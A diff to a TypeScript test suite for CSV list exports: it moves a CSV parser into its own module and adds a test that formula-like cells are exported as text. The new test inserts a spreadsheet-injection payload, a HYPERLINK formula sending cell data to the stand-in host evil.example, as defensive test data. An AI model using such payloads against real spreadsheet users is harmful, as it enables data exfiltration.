@@ -13,6 +13,7 @@ import customerWords from '../../i18n/customers';
 import userWords from '../../i18n/users';
 import vacancyWords from '../../i18n/vacancies';
 import { formatDate, toApiDate } from '../../src/common/dates';
+import { asText, BOM, parseCsv } from './csv';
 import { addUser, insertCandidates, insertCompany } from './fixtures';
 import { ADMIN, describeEachDatabase, type TestApi } from './harness';
 import { describeCall, unpaged, type ListCall } from './lists/calls';
@@ -27,34 +28,6 @@ import { insertKeyed } from './lists/write';
 type Lang = 'en' | 'de';
 const LANGUAGE = { en: 'english', de: 'german' } as const;
 const SEPARATOR = { en: ',', de: ';' };
-const BOM = '\uFEFF';
-
-/** The rows of an RFC 4180 file: fields split on the separator, quotes undone, CRLF between records. */
-function parseCsv(text: string, separator: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let index = 0; index < text.length; index++) {
-    const char = text[index];
-    if (quoted) {
-      if (char === '"' && text[index + 1] === '"') field += text[++index];
-      else if (char === '"') quoted = false;
-      else field += char;
-    } else if (char === '"') quoted = true;
-    else if (char === separator) {
-      row.push(field);
-      field = '';
-    } else if (char === '\r' && text[index + 1] === '\n') {
-      rows.push([...row, field]);
-      row = [];
-      field = '';
-      index++;
-    } else field += char;
-  }
-  if (field !== '' || row.length > 0) rows.push([...row, field]);
-  return rows;
-}
 
 /** How each list screen shows a record, from the app's own catalogs: the file's expected rows. */
 function screenRows(lang: Lang) {
@@ -189,8 +162,9 @@ async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang
   expect(listed.status).toBe(200);
   const items = listed.body.response as never[];
   const data = rows.slice(1);
-  expect(data.map((row) => row[0])).toEqual(items.map((item) => screen.row(item)[0]));
-  expect(data).toEqual(items.map((item) => screen.row(item)));
+  const expected = items.map((item) => screen.row(item).map(asText));
+  expect(data.map((row) => row[0])).toEqual(expected.map((row) => row[0]));
+  expect(data).toEqual(expected);
   return data;
 }
 
@@ -292,6 +266,28 @@ describeEachDatabase('a list exported as CSV', (api) => {
     const vacancies = await exportOf(api(), admin, { name: 'vacancyList', params: { type: 'all' } }, 'de');
     const start = vacancy.vacancy_start_date.split('-').reverse().join('.');
     expect(vacancies.text).toContain(`;${start};`);
+  });
+
+  it('keeps a cell that starts like a formula as text, so that opening the file runs nothing', async () => {
+    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const name = '=HYPERLINK("https://evil.example/?"&A1,"CV")';
+    await insertCandidates(api(), vacancy.id, [
+      {
+        candidate_name: name,
+        candidate_email: '@SUM(1+1)@evil.example',
+        candidate_phone_number: '+49 30 1234567',
+      },
+    ]);
+    const call: ListCall = {
+      name: 'candidateList',
+      params: { status: 'all' },
+      query: { search: 'hyperlink' },
+    };
+    for (const lang of ['en', 'de'] as const) {
+      const file = await exportOf(api(), admin, call, lang);
+      const [, row] = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
+      expect(row?.slice(0, 3)).toEqual([`'${name}`, "'@SUM(1+1)@evil.example", "'+49 30 1234567"]);
+    }
   });
 
   it('ignores page and page_size: every matching record', async () => {
